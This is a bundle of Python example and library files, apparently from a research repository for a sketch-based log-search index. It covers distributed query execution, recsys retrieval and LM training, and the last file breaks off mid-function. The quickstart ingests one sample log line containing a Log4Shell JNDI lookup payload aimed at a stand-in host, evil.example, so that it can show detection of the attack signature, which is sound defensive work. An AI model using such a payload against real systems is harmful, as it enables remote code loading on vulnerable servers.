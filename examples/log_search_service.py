"""End-to-end driver: a distributed log-search service (the paper's system).

Ingest → journaled pipeline → sealed segments → fault-tolerant distributed
query execution with rendezvous assignment and straggler speculation.
Simulates a 4-worker cluster in-process, kills a worker mid-query wave, and
shows results stay complete and identical.

    PYTHONPATH=src python examples/log_search_service.py
"""

import shutil
import time
from pathlib import Path

from repro.core.querylang import Contains
from repro.data import IngestPipeline, make_dataset
from repro.distributed import QueryScheduler

ROOT = Path("/tmp/copr-service")


def worker_probe(pipe: IngestPipeline, seg_id: int, term: str) -> list[str]:
    """One worker's unit of work: probe one sealed segment."""
    store = pipe._sealed_stores[seg_id]
    return store.search(Contains(term)).lines


def main() -> None:
    if ROOT.exists():
        shutil.rmtree(ROOT)

    # --- ingest (journaled, partitioned, sealed segments) -----------------
    ds = make_dataset("1m", 40_000, seed=3)
    pipe = IngestPipeline(ROOT, n_shards=4, lines_per_segment=4096)
    t0 = time.time()
    for line, src in zip(ds.lines, ds.sources):
        pipe.ingest(line, src)
    pipe.seal_all()
    seg_ids = [e.segment_id for e in pipe.manifest]
    print(f"ingested {len(ds.lines)} lines → {len(seg_ids)} sealed segments "
          f"in {time.time()-t0:.1f}s")

    # --- distributed query wave with a failure -----------------------------
    needle = ds.lines[12345].split()[-1]
    sched = QueryScheduler(heartbeat_timeout=5.0, straggler_factor=3.0)
    workers = [f"worker-{i}" for i in range(4)]
    now = 0.0
    for w in workers:
        sched.heartbeat(w, now=now)
    plan = sched.plan(seg_ids, now=now)
    print("assignment:", {w: len(s) for w, s in plan.items()})

    # worker-2 dies after its first segment; others finish their queues
    results: list[str] = []
    for w, segs in plan.items():
        for i, seg in enumerate(segs):
            if w == "worker-2" and i == 1:
                print(f"{w} CRASHED (heartbeat stops)")
                break
            sched.start(w, seg, now=now)
            res = worker_probe(pipe, seg, needle)
            now += 0.01
            sched.complete(w, seg, res, now=now)
            results.extend(res)

    # failure detection → survivors pick up the orphaned segments
    now += 10.0
    for w in workers:
        if w != "worker-2":
            sched.heartbeat(w, now=now)
    replan = sched.plan(seg_ids, now=now)
    assert "worker-2" not in sched.healthy_workers(now)
    print("replan after failure:", {w: len(s) for w, s in replan.items()})
    for w, segs in replan.items():
        for seg in segs:
            sched.start(w, seg, now=now)
            res = worker_probe(pipe, seg, needle)
            now += 0.01
            sched.complete(w, seg, res, now=now)
            results.extend(res)

    # --- verify against a direct scan --------------------------------------
    direct = pipe.search_lines(Contains(needle))
    assert sorted(results) == sorted(direct), "FT execution must lose nothing"
    print(f"query '{needle}': {len(results)} hits — identical with and without failure")
    print(f"segments probed: {len(sched.done)}/{len(seg_ids)}")


if __name__ == "__main__":
    main()
