"""Sketch-prefiltered retrieval: COPR narrows 10⁶-scale candidate sets before
exact two-tower scoring (the recsys × paper-technique integration).

    PYTHONPATH=src python examples/retrieval_with_sketch.py
"""

import time

import jax
import jax.numpy as jnp
import numpy as np

from repro.models.params import init_params
from repro.models.recsys import TwoTowerConfig, twotower_param_specs, twotower_retrieve
from repro.serve import build_attribute_index, filtered_retrieve, prefilter_candidates

BRANDS = ["acme", "globex", "initech", "umbrella", "stark", "wayne"]
CATS = ["shoes", "laptop", "phone", "sofa", "lamp", "desk", "monitor", "chair"]


def main() -> None:
    rng = np.random.default_rng(0)
    n_items = 20_000

    # item attribute corpus → COPR block index.  Items are CLUSTERED by
    # attributes before blocking — the same locality trick the paper plays
    # by grouping log batches per source (§5): a block then covers few
    # attribute values and the sketch's AND filter becomes selective.
    attrs = [
        [BRANDS[rng.integers(len(BRANDS))], CATS[rng.integers(len(CATS))],
         f"color{rng.integers(12)}"]
        for _ in range(n_items)
    ]
    order = sorted(range(n_items), key=lambda i: (attrs[i][0], attrs[i][1]))
    attrs = [attrs[i] for i in order]  # item id == clustered position
    t0 = time.time()
    corpus = build_attribute_index(attrs, block_size=256)
    sketch_mb = corpus.sketch_reader.nbytes() / 1e6
    print(f"indexed {n_items} items in {time.time()-t0:.1f}s — sketch {sketch_mb:.2f} MB")

    cfg = TwoTowerConfig(
        n_users=1000, n_items=n_items, embed_dim=32, tower_mlp=(64, 32),
        history_len=8, n_candidates=n_items,
    )
    params = init_params(jax.random.key(0), twotower_param_specs(cfg), jnp.float32)
    batch = {
        "user_id": jnp.zeros((1,), jnp.int32),
        "history": jnp.asarray(rng.integers(0, n_items, (1, 8)), jnp.int32),
    }

    # unfiltered: score everything
    t0 = time.time()
    full = dict(batch)
    full["candidates"] = jnp.arange(n_items)
    vals_all, ids_all = twotower_retrieve(params, full, cfg, top_k=10)
    t_all = time.time() - t0

    # sketch-prefiltered: brand=acme AND category=laptop
    t0 = time.time()
    cand = prefilter_candidates(corpus, ["acme", "laptop"])
    vals_f, ids_f = filtered_retrieve(
        params, batch, cfg, corpus, ["acme", "laptop"], top_k=10
    )
    t_f = time.time() - t0
    truth = {
        i for i, a in enumerate(attrs) if a[0] == "acme" and a[1] == "laptop"
    }
    got = set(int(i) for i in np.asarray(cand))
    print(f"prefilter: {len(cand)} of {n_items} candidates "
          f"({100*len(cand)/n_items:.1f}%), recall of true matches: "
          f"{len(truth & got)}/{len(truth)}")
    assert truth.issubset(got), "sketch must never drop a true candidate"
    print(f"full scoring:      {t_all*1e3:7.1f} ms  top-1 id {int(ids_all[0,0])}")
    print(f"filtered scoring:  {t_f*1e3:7.1f} ms  top-1 id {int(ids_f[0,0])}")


if __name__ == "__main__":
    main()
