"""Quickstart: index logs with the COPR/DynaWarp sketch and query them.

    PYTHONPATH=src python examples/quickstart.py
"""


from repro.core import CoprSketch, SketchConfig
from repro.data import make_dataset
from repro.logstore import And, Contains, CoprStore, Not, Source


def main() -> None:
    # 1. A raw sketch: which tokens appear in which sets?
    sk = CoprSketch(SketchConfig(max_postings=64))
    sk.add_tokens(["connection", "to", "host", "established"], posting=0)
    sk.add_tokens(["start", "processing"], posting=1)
    sk.add_tokens(["host", "connection", "terminated"], posting=2)
    print("sets containing 'connection' AND 'host':", sk.query_and(["connection", "host"]))
    print("sets containing 'host' (OR):             ", sk.query_or(["host"]))

    # 2. Seal to the immutable form: mmap-ready flat buffer
    buf = sk.seal()
    print(f"sealed sketch: {len(buf)} bytes")

    # 3. The full log store: compressed batches + sketch + post-filtering
    ds = make_dataset("small", 20_000, seed=1)
    store = CoprStore(lines_per_batch=256, max_batches=1024)
    for line, src in zip(ds.lines, ds.sources):
        store.ingest(line, src)
    # the Log4Shell pattern from the paper's motivation, hidden in the stream
    store.ingest("WARN: suspicious input ${jndi:ldap://evil.example/a}", "sec")
    store.finish()
    du = store.disk_usage()
    print(
        f"\ningested {len(ds.lines)} lines: data {du.data_mb if hasattr(du,'data_mb') else du.data_bytes/1e6:.1f} MB, "
        f"sketch {du.index_bytes/1e6:.2f} MB "
        f"({100*du.overhead_vs_raw:.1f}% of raw)"
    )

    # 4. Needle-in-the-haystack: a term that appears in ~1 batch
    needle = ds.lines[777].split()[-1]
    res = store.search(Contains(needle))
    print(f"contains({needle!r}): {len(res.lines)} lines "
          f"(verified {res.n_verified_batches}/{store.n_batches} batches), "
          f"e.g. {res.lines[0][:70]}...")

    # 5. Special characters are indexed as 1/2/3-grams (tokenization rule 7),
    #    so the ${jndi attack signature is findable without knowing it upfront
    res = store.search(Contains("${jndi"))
    print(f"contains('${{jndi'): {len(res.lines)} line(s) — the paper's security use-case")

    # 6. Boolean ASTs compose: errors that are not auth failures, one source
    q = And(Contains("error"), Not(Contains("authenticate")), Source("src-00003"))
    res = store.search(q)
    print(f"{q}: {len(res.lines)} lines, "
          f"candidates {res.n_candidate_batches}, "
          f"plan {res.timings['plan_s']*1e3:.2f}ms + verify {res.timings['verify_s']*1e3:.2f}ms")


if __name__ == "__main__":
    main()
