"""Train a small LM on sketch-selected log lines (~100M-class config scaled
to CPU): the data pipeline uses the COPR sketch to SELECT training data —
only lines from batches matching a filter feed the model.

    PYTHONPATH=src python examples/train_lm_on_logs.py [--steps 200]
"""

import argparse
import time

import jax
import jax.numpy as jnp
import numpy as np

from repro.data import make_dataset
from repro.logstore import CoprStore
from repro.models.params import count_params, init_params
from repro.models.transformer import LMConfig, lm_loss, param_specs
from repro.train import AdamWConfig, StepConfig, adamw_init, make_train_step, save_checkpoint


def build_corpus(filter_term: str | None):
    """Sketch-selected corpus: decompress only matching batches."""
    ds = make_dataset("1m", 30_000, seed=5)
    store = CoprStore(lines_per_batch=128, max_batches=1024)
    for line, src in zip(ds.lines, ds.sources):
        store.ingest(line, src)
    store.finish()
    if filter_term:
        from repro.core.querylang import Contains

        res = store.search(Contains(filter_term))
        lines = res.lines
        print(f"sketch-selected {len(lines)} lines matching {filter_term!r} "
              f"(of {len(ds.lines)}; {res.n_verified_batches} "
              f"of {store.n_batches} batches decompressed)")
    else:
        lines = ds.lines
    return lines


def byte_tokenize(lines: list[str], seq_len: int, rng) -> np.ndarray:
    blob = ("\n".join(lines)).encode("utf-8")
    arr = np.frombuffer(blob, np.uint8).astype(np.int32)
    n = (len(arr) - 1) // seq_len
    starts = rng.integers(0, len(arr) - seq_len - 1, size=max(n, 64))
    return np.stack([arr[s : s + seq_len + 1] for s in starts])


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--steps", type=int, default=200)
    ap.add_argument("--filter", default="error", help="sketch filter term ('' = all)")
    ap.add_argument("--batch", type=int, default=16)
    ap.add_argument("--seq", type=int, default=128)
    args = ap.parse_args()

    lines = build_corpus(args.filter or None)
    rng = np.random.default_rng(0)
    windows = byte_tokenize(lines, args.seq, rng)

    # ~100M-class config scaled down for CPU stepping (same code path as the
    # full configs; swap in configs/olmo_1b.py make_config() on real chips)
    cfg = LMConfig(
        name="log-lm", n_layers=4, d_model=256, n_heads=8, n_kv_heads=4,
        d_ff=1024, vocab=256, dense_attn_max_seq=4096,
    )
    specs = param_specs(cfg)
    print(f"model: {count_params(specs)/1e6:.1f}M params")
    params = init_params(jax.random.key(0), specs, jnp.float32)
    opt_cfg = AdamWConfig(lr=3e-4, warmup_steps=20)
    opt = adamw_init(params, opt_cfg)
    step = jax.jit(make_train_step(lambda p, b: lm_loss(p, b, cfg), opt_cfg, StepConfig()))

    t0 = time.time()
    for i in range(args.steps):
        idx = rng.integers(0, len(windows), args.batch)
        w = windows[idx]
        batch = {"tokens": jnp.asarray(w[:, :-1]), "labels": jnp.asarray(w[:, 1:])}
        params, opt, m = step(params, opt, batch)
        if i % 20 == 0 or i == args.steps - 1:
            print(f"step {i:4d}  loss {float(m['loss']):.3f}  "
                  f"({(i+1)*args.batch*args.seq/(time.time()-t0):.0f} tok/s)")
    save_checkpoint("/tmp/copr-lm-ckpt", args.steps, params)
    print("checkpoint saved to /tmp/copr-lm-ckpt")


if __name__ == "__main__":
    main()
