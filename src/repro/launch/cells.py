"""Cell builder: (architecture × shape × mesh) → lowerable step + specs.

``build_cell`` returns everything the dry-run needs: the step function, its
abstract arguments (ShapeDtypeStructs — nothing is allocated), the in/out
shardings pinned from the arch's rule table, and the MODEL_FLOPS estimate
used by the roofline's useful-compute ratio.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable

import jax
import jax.numpy as jnp
import numpy as np

from ..configs.base import ArchDef, ShapeCell
from ..models import gnn as gnn_mod
from ..models import recsys as rec_mod
from ..models import transformer as lm_mod
from ..models.params import abstract_params, param_shardings
from ..models.sharding import ShardingRules
from ..train.optimizer import AdamWConfig, abstract_opt_state, opt_state_shardings
from ..train.step import StepConfig, make_train_step

I32 = jnp.int32
F32 = jnp.float32
BF16 = jnp.bfloat16


@dataclass
class BuiltCell:
    arch_id: str
    shape_name: str
    kind: str
    fn: Callable
    args: tuple
    in_shardings: tuple
    out_shardings: Any
    model_flops: float  # useful FLOPs per executed step (global)
    donate_argnums: tuple = ()  # e.g. the KV cache in decode cells
    meta: dict = field(default_factory=dict)

    def lower(self):
        jitted = jax.jit(
            self.fn,
            in_shardings=self.in_shardings,
            out_shardings=self.out_shardings,
            donate_argnums=self.donate_argnums,
        )
        return jitted.lower(*self.args)


def _rules_for(arch: ArchDef, cell: ShapeCell, mesh=None) -> ShardingRules:
    rules = arch.rules
    if cell.rules_override:
        rules = rules.override(**cell.rules_override)
    if mesh is not None:
        rules = rules.with_mesh(mesh)
    return rules


def _batch_sharding(rules: ShardingRules, mesh, names_tree, sds_tree):
    """Size-aware shardings for a batch dict (axes that don't divide drop)."""
    return {
        key: rules.sharding_for_shape(mesh, sds_tree[key].shape, *names)
        for key, names in names_tree.items()
    }


def _opt_cfg(arch: ArchDef) -> AdamWConfig:
    return AdamWConfig(state_dtype=jnp.dtype(arch.opt_state_dtype))


def build_cell(arch: ArchDef, cell: ShapeCell, mesh, *, smoke: bool = False) -> BuiltCell:
    cfg = arch.make_smoke_config() if smoke else arch.make_config(cell)
    rules = _rules_for(arch, cell, mesh)
    if arch.family == "lm":
        return _build_lm_cell(arch, cell, cfg, rules, mesh, smoke)
    if arch.family == "gnn":
        return _build_gnn_cell(arch, cell, cfg, rules, mesh, smoke)
    if arch.family == "recsys":
        return _build_recsys_cell(arch, cell, cfg, rules, mesh, smoke)
    raise ValueError(arch.family)


# --- LM ---------------------------------------------------------------------


def _lm_dims(cell: ShapeCell, smoke: bool):
    s = cell.dims["seq_len"]
    b = cell.dims["global_batch"]
    if smoke:
        s, b = min(s, 64), min(b, 4)
    return b, s


def _build_lm_cell(arch: ArchDef, cell: ShapeCell, cfg, rules, mesh, smoke):
    b, s = _lm_dims(cell, smoke)
    specs = lm_mod.param_specs(cfg)
    params_sds = abstract_params(specs, BF16)
    params_sh = param_shardings(specs, rules, mesh)
    n_active = cfg.n_active_params()

    if cell.kind == "train":
        opt_cfg = _opt_cfg(arch)
        opt_sds = abstract_opt_state(specs, opt_cfg)
        opt_sh = opt_state_shardings(specs, rules, mesh, opt_cfg)
        n_micro = 1 if smoke else cell.num_microbatches
        step = make_train_step(
            lambda p, bt: lm_mod.lm_loss(p, bt, cfg, rules),
            opt_cfg,
            StepConfig(num_microbatches=n_micro),
            grad_shardings=params_sh,
        )
        batch_sds = {
            "tokens": jax.ShapeDtypeStruct((b, s), I32),
            "labels": jax.ShapeDtypeStruct((b, s), I32),
        }
        batch_names = {"tokens": ("batch", "seq"), "labels": ("batch", "seq")}
        batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
        return BuiltCell(
            arch.arch_id,
            cell.name,
            cell.kind,
            step,
            (params_sds, opt_sds, batch_sds),
            (params_sh, opt_sh, batch_sh),
            (params_sh, opt_sh, None),
            model_flops=6.0 * n_active * b * s,
            meta={"tokens_per_step": b * s, "n_active_params": n_active, "microbatches": n_micro},
        )

    if cell.kind == "prefill":
        fn = lambda p, t: lm_mod.prefill(p, t, cfg, rules)
        tokens_sds = jax.ShapeDtypeStruct((b, s), I32)
        tokens_sh = rules.sharding_for_shape(mesh, (b, s), "batch", "seq")
        cache_abs = lm_mod.abstract_cache(cfg, b, s, BF16)
        cache_sh = {
            k: rules.sharding_for_shape(mesh, cache_abs[k].shape, *names)
            for k, names in lm_mod.cache_logical_names().items()
        }
        logits_sh = rules.sharding_for_shape(mesh, (b, cfg.vocab), "batch", "vocab")
        return BuiltCell(
            arch.arch_id,
            cell.name,
            cell.kind,
            fn,
            (params_sds, tokens_sds),
            (params_sh, tokens_sh),
            (logits_sh, cache_sh),
            model_flops=2.0 * n_active * b * s,
            meta={"tokens_per_step": b * s, "n_active_params": n_active},
        )

    assert cell.kind == "decode"
    fn = lambda p, c, t: lm_mod.decode_step(p, c, t, cfg, rules)
    cache_sds = lm_mod.abstract_cache(cfg, b, s, BF16)
    cache_sh = {
        k: rules.sharding_for_shape(mesh, cache_sds[k].shape, *names)
        for k, names in lm_mod.cache_logical_names().items()
    }
    tokens_sds = jax.ShapeDtypeStruct((b,), I32)
    tokens_sh = rules.sharding_for_shape(mesh, (b,), "batch")
    logits_sh = rules.sharding_for_shape(mesh, (b, cfg.vocab), "batch", "vocab")
    kv_bytes = float(np.prod(cache_sds["k"].shape)) * 2 * 2  # k+v, bf16
    return BuiltCell(
        arch.arch_id,
        cell.name,
        cell.kind,
        fn,
        (params_sds, cache_sds, tokens_sds),
        (params_sh, cache_sh, tokens_sh),
        (logits_sh, cache_sh),
        model_flops=2.0 * n_active * b,
        # donate the cache: the decode step updates it in place — without
        # donation XLA materializes a full copy of the stacked KV per step
        donate_argnums=(1,),
        meta={"tokens_per_step": b, "n_active_params": n_active, "kv_cache_bytes": kv_bytes},
    )


# --- GNN --------------------------------------------------------------------


_PAD = 512  # pad row-sharded dims to a multiple that every mesh divides


def _pad(n: int, p: int = _PAD) -> int:
    return ((n + p - 1) // p) * p


def _gnn_dims(cell: ShapeCell, smoke: bool):
    n, e = cell.dims["n_nodes"], cell.dims["n_edges"]
    df, do = cell.dims["d_feat"], cell.dims["d_out"]
    if smoke:
        n, e, df = min(n, 64), min(e, 256), min(df, 8)
    else:
        # pad nodes/edges so row sharding divides; pad edges point at a pad
        # node and pad nodes are masked out of the loss (node_mask)
        n, e = _pad(n), _pad(e)
    return n, e, df, do


def _build_gnn_cell(arch: ArchDef, cell: ShapeCell, cfg, rules, mesh, smoke):
    n, e, df, do = _gnn_dims(cell, smoke)
    if smoke:
        cfg = arch.make_smoke_config()
        df, do = cfg.d_node_in, cfg.d_out
    specs = gnn_mod.meshgraphnet_param_specs(cfg)
    params_sds = abstract_params(specs, F32)
    params_sh = param_shardings(specs, rules, mesh)
    opt_cfg = _opt_cfg(arch)
    opt_sds = abstract_opt_state(specs, opt_cfg)
    opt_sh = opt_state_shardings(specs, rules, mesh, opt_cfg)
    step = make_train_step(
        lambda p, bt: (gnn_mod.meshgraphnet_loss(p, bt, cfg, rules), {}),
        opt_cfg,
        grad_shardings=params_sh,
    )
    batch_sds = {
        "node_feat": jax.ShapeDtypeStruct((n, df), F32),
        "edge_feat": jax.ShapeDtypeStruct((e, cfg.d_edge_in), F32),
        "senders": jax.ShapeDtypeStruct((e,), I32),
        "receivers": jax.ShapeDtypeStruct((e,), I32),
        "target": jax.ShapeDtypeStruct((n, do), F32),
        "node_mask": jax.ShapeDtypeStruct((n,), F32),
    }
    batch_names = {
        "node_feat": ("nodes", None),
        "edge_feat": ("edges", None),
        "senders": ("edges",),
        "receivers": ("edges",),
        "target": ("nodes", None),
        "node_mask": ("nodes",),
    }
    batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
    h = cfg.d_hidden
    mlp_flops = 2 * (3 * h * h + 2 * h * h) * e + 2 * (2 * h * h + 2 * h * h) * n
    enc_dec = 2 * (df * h + h * h) * n + 2 * (cfg.d_edge_in * h + h * h) * e + 2 * (h * h + h * do) * n
    fwd = cfg.n_layers * mlp_flops + enc_dec
    return BuiltCell(
        arch.arch_id,
        cell.name,
        cell.kind,
        step,
        (params_sds, opt_sds, batch_sds),
        (params_sh, opt_sh, batch_sh),
        (params_sh, opt_sh, None),
        model_flops=3.0 * fwd,  # fwd + bwd ≈ 3× forward
        meta={"n_nodes": n, "n_edges": e},
    )


# --- RecSys -------------------------------------------------------------------


def _recsys_batch(arch_id: str, cfg, b: int, n_cand: int | None, smoke: bool):
    """(SDS tree, logical-name tree, loss/forward fns) per recsys arch."""
    if arch_id == "xdeepfm":
        sds = {"fields": jax.ShapeDtypeStruct((b, cfg.n_sparse), I32)}
        names = {"fields": ("batch", None)}
        if n_cand:
            sds = {"fields": jax.ShapeDtypeStruct((n_cand, cfg.n_sparse), I32)}
            names = {"fields": ("candidates", None)}
        return sds, names
    if arch_id == "sasrec":
        sds = {"history": jax.ShapeDtypeStruct((b, cfg.seq_len), I32)}
        names = {"history": ("batch", "seq")}
        if n_cand:
            sds["candidates"] = jax.ShapeDtypeStruct((n_cand,), I32)
            names["candidates"] = ("candidates",)
        return sds, names
    if arch_id == "mind":
        sds = {"history": jax.ShapeDtypeStruct((b, cfg.seq_len), I32)}
        names = {"history": ("batch", "seq")}
        if n_cand:
            sds["candidates"] = jax.ShapeDtypeStruct((n_cand,), I32)
            names["candidates"] = ("candidates",)
        return sds, names
    assert arch_id == "two-tower-retrieval"
    sds = {
        "user_id": jax.ShapeDtypeStruct((b,), I32),
        "history": jax.ShapeDtypeStruct((b, cfg.history_len), I32),
    }
    names = {"user_id": ("batch",), "history": ("batch", "seq")}
    if n_cand:
        sds["candidates"] = jax.ShapeDtypeStruct((n_cand,), I32)
        names["candidates"] = ("candidates",)
    return sds, names


def _recsys_flops(arch_id: str, cfg, b: int) -> float:
    """Per-example useful FLOPs × batch (forward)."""
    if arch_id == "xdeepfm":
        f, d = cfg.n_sparse, cfg.embed_dim
        cin = 0
        h_prev = f
        for h in cfg.cin_layers:
            cin += 2 * (h_prev * f * d + h_prev * f * h * d)
            h_prev = h
        dims = [f * d, *cfg.mlp_layers, 1]
        mlp = sum(2 * dims[i] * dims[i + 1] for i in range(len(dims) - 1))
        return float(b) * (cin + mlp)
    if arch_id == "sasrec":
        d, s = cfg.embed_dim, cfg.seq_len
        per_block = 2 * (4 * d * d * s + 2 * s * s * d) + 2 * (8 * d * d * s)
        return float(b) * cfg.n_blocks * per_block
    if arch_id == "mind":
        d, s, k = cfg.embed_dim, cfg.seq_len, cfg.n_interests
        routing = cfg.capsule_iters * (2 * k * s * d * 2)
        return float(b) * (2 * s * d * d + routing + 2 * (d * 4 * d * 2) * k)
    d = cfg.embed_dim
    dims = [d, *cfg.tower_mlp]
    tower = sum(2 * dims[i] * dims[i + 1] for i in range(len(dims) - 1))
    return float(b) * 2 * tower


def _build_recsys_cell(arch: ArchDef, cell: ShapeCell, cfg, rules, mesh, smoke):
    b = cell.dims.get("batch", 1)
    n_cand = cell.dims.get("n_candidates")
    if smoke:
        b = min(b, 8)
        n_cand = min(n_cand, cfg.n_candidates if hasattr(cfg, "n_candidates") else 64) if n_cand else None
        if n_cand:
            n_cand = min(n_cand, 64)
    elif n_cand:
        n_cand = _pad(n_cand)  # padded tail scores are duplicates of id 0
    aid = arch.arch_id

    specs = {
        "xdeepfm": rec_mod.xdeepfm_param_specs,
        "sasrec": rec_mod.sasrec_param_specs,
        "mind": rec_mod.mind_param_specs,
        "two-tower-retrieval": rec_mod.twotower_param_specs,
    }[aid](cfg)
    params_sds = abstract_params(specs, F32)
    params_sh = param_shardings(specs, rules, mesh)

    if cell.kind == "train":
        opt_cfg = _opt_cfg(arch)
        opt_sds = abstract_opt_state(specs, opt_cfg)
        opt_sh = opt_state_shardings(specs, rules, mesh, opt_cfg)
        batch_sds, batch_names = _recsys_batch(aid, cfg, b, None, smoke)
        # add labels / pos / neg
        if aid == "xdeepfm":
            batch_sds["labels"] = jax.ShapeDtypeStruct((b,), F32)
            batch_names["labels"] = ("batch",)
            loss = lambda p, bt: rec_mod.xdeepfm_loss(p, bt, cfg, rules)
        elif aid == "sasrec":
            batch_sds["positive"] = jax.ShapeDtypeStruct((b,), I32)
            batch_sds["negative"] = jax.ShapeDtypeStruct((b,), I32)
            batch_names["positive"] = ("batch",)
            batch_names["negative"] = ("batch",)
            loss = lambda p, bt: rec_mod.sasrec_loss(p, bt, cfg, rules)
        elif aid == "mind":
            batch_sds["target"] = jax.ShapeDtypeStruct((b,), I32)
            batch_sds["negative"] = jax.ShapeDtypeStruct((b,), I32)
            batch_names["target"] = ("batch",)
            batch_names["negative"] = ("batch",)
            loss = lambda p, bt: rec_mod.mind_loss(p, bt, cfg, rules)
        else:
            batch_sds["item_id"] = jax.ShapeDtypeStruct((b,), I32)
            batch_names["item_id"] = ("batch",)
            loss = lambda p, bt: rec_mod.twotower_loss(p, bt, cfg, rules)
        batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
        step = make_train_step(
            loss,
            opt_cfg,
            StepConfig(num_microbatches=cell.num_microbatches),
            grad_shardings=params_sh,
        )
        return BuiltCell(
            arch.arch_id,
            cell.name,
            cell.kind,
            step,
            (params_sds, opt_sds, batch_sds),
            (params_sh, opt_sh, batch_sh),
            (params_sh, opt_sh, None),
            model_flops=3.0 * _recsys_flops(aid, cfg, b),
            meta={"batch": b},
        )

    if cell.kind == "serve":
        batch_sds, batch_names = _recsys_batch(aid, cfg, b, None, smoke)
        batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
        fwd = {
            "xdeepfm": lambda p, bt: rec_mod.xdeepfm_forward(p, bt, cfg, rules),
            "sasrec": lambda p, bt: rec_mod.sasrec_forward(p, bt, cfg, rules),
            "mind": lambda p, bt: rec_mod.mind_forward(p, bt, cfg, rules),
            "two-tower-retrieval": lambda p, bt: rec_mod.twotower_user(p, bt, cfg, rules),
        }[aid]
        return BuiltCell(
            arch.arch_id,
            cell.name,
            cell.kind,
            fwd,
            (params_sds, batch_sds),
            (params_sh, batch_sh),
            None,
            model_flops=_recsys_flops(aid, cfg, b),
            meta={"batch": b},
        )

    assert cell.kind == "retrieval"
    if aid == "xdeepfm":
        # no tower split: score every candidate with the full model
        batch_sds, batch_names = _recsys_batch(aid, cfg, b, n_cand, smoke)
        batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
        fn = lambda p, bt: rec_mod.xdeepfm_forward(p, bt, cfg, rules)
        flops = _recsys_flops(aid, cfg, n_cand)
    else:
        batch_sds, batch_names = _recsys_batch(aid, cfg, b, n_cand, smoke)
        batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
        top_k = 8 if smoke else 100
        precomp = cell.dims.get("precomputed_candidates", False)
        if aid == "two-tower-retrieval" and precomp:
            # production variant: serve from the offline-computed candidate
            # matrix (ANN index) — no per-query table gather
            d_out = cfg.tower_mlp[-1]
            batch_sds["cand_vectors"] = jax.ShapeDtypeStruct((n_cand, d_out), F32)
            batch_names["cand_vectors"] = ("candidates", None)
            batch_sh = _batch_sharding(rules, mesh, batch_names, batch_sds)
            fn = lambda p, bt: rec_mod.twotower_retrieve_precomputed(p, bt, cfg, rules, top_k=top_k)
        else:
            fn = {
                "sasrec": lambda p, bt: rec_mod.sasrec_retrieve_scores(p, bt, cfg, rules, top_k=top_k),
                "mind": lambda p, bt: rec_mod.mind_retrieve_scores(p, bt, cfg, rules, top_k=top_k),
                "two-tower-retrieval": lambda p, bt: rec_mod.twotower_retrieve(p, bt, cfg, rules, top_k=top_k),
            }[aid]
        d = cfg.embed_dim if aid != "two-tower-retrieval" else cfg.tower_mlp[-1]
        flops = 2.0 * b * n_cand * d
    return BuiltCell(
        arch.arch_id,
        cell.name,
        cell.kind,
        fn,
        (params_sds, batch_sds),
        (params_sh, batch_sh),
        None,
        model_flops=flops,
        meta={"batch": b, "n_candidates": n_cand},
    )
