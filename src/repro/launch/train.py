"""Training driver: ``python -m repro.launch.train --arch <id> [--smoke]``.

Runs real steps (concrete arrays) on the available devices.  With ``--smoke``
(the default when only CPU is present) the arch's reduced config trains a few
steps on a 1-device mesh and asserts finite loss — the per-arch smoke path
used by tests.  Checkpoints land under ``--ckpt-dir`` every
``--ckpt-every`` steps and training resumes from the latest one.
"""

from __future__ import annotations

import argparse
import time

import jax
import jax.numpy as jnp
import numpy as np


def synth_batch(arch, cell, cfg, rng: np.random.Generator, smoke: bool):
    """Concrete random batch matching the cell's input_specs."""
    from .cells import build_cell  # noqa: F401  (shape logic lives there)

    if arch.family == "lm":
        b = min(cell.dims["global_batch"], 4) if smoke else cell.dims["global_batch"]
        s = min(cell.dims["seq_len"], 64) if smoke else cell.dims["seq_len"]
        toks = rng.integers(0, cfg.vocab, size=(b, s), dtype=np.int32)
        labels = np.roll(toks, -1, axis=1)
        return {"tokens": jnp.asarray(toks), "labels": jnp.asarray(labels)}
    if arch.family == "gnn":
        n = min(cell.dims["n_nodes"], 64) if smoke else cell.dims["n_nodes"]
        e = min(cell.dims["n_edges"], 256) if smoke else cell.dims["n_edges"]
        df = cfg.d_node_in
        return {
            "node_feat": jnp.asarray(rng.normal(size=(n, df)), jnp.float32),
            "edge_feat": jnp.asarray(rng.normal(size=(e, cfg.d_edge_in)), jnp.float32),
            "senders": jnp.asarray(rng.integers(0, n, size=e), jnp.int32),
            "receivers": jnp.asarray(rng.integers(0, n, size=e), jnp.int32),
            "target": jnp.asarray(rng.normal(size=(n, cfg.d_out)), jnp.float32),
            "node_mask": jnp.ones((n,), jnp.float32),
        }
    # recsys
    b = min(cell.dims.get("batch", 8), 8) if smoke else cell.dims["batch"]
    aid = arch.arch_id
    if aid == "xdeepfm":
        sizes = cfg.field_sizes()
        fields = np.stack([rng.integers(0, s, size=b) for s in sizes], axis=1).astype(np.int32)
        return {"fields": jnp.asarray(fields), "labels": jnp.asarray(rng.integers(0, 2, b), jnp.float32)}
    if aid == "sasrec":
        return {
            "history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32),
            "positive": jnp.asarray(rng.integers(0, cfg.n_items, b), jnp.int32),
            "negative": jnp.asarray(rng.integers(0, cfg.n_items, b), jnp.int32),
        }
    if aid == "mind":
        return {
            "history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.seq_len)), jnp.int32),
            "target": jnp.asarray(rng.integers(0, cfg.n_items, b), jnp.int32),
            "negative": jnp.asarray(rng.integers(0, cfg.n_items, b), jnp.int32),
        }
    return {
        "user_id": jnp.asarray(rng.integers(0, cfg.n_users, b), jnp.int32),
        "history": jnp.asarray(rng.integers(0, cfg.n_items, (b, cfg.history_len)), jnp.int32),
        "item_id": jnp.asarray(rng.integers(0, cfg.n_items, b), jnp.int32),
    }


def train(arch_id: str, shape: str | None, *, steps: int, smoke: bool, ckpt_dir: str | None, ckpt_every: int, seed: int = 0):
    from ..configs.base import get_arch
    from ..models import gnn as gnn_mod
    from ..models import recsys as rec_mod
    from ..models import transformer as lm_mod
    from ..models.params import init_params
    from ..train import adamw_init, restore_latest, save_checkpoint
    from .cells import _opt_cfg, build_cell
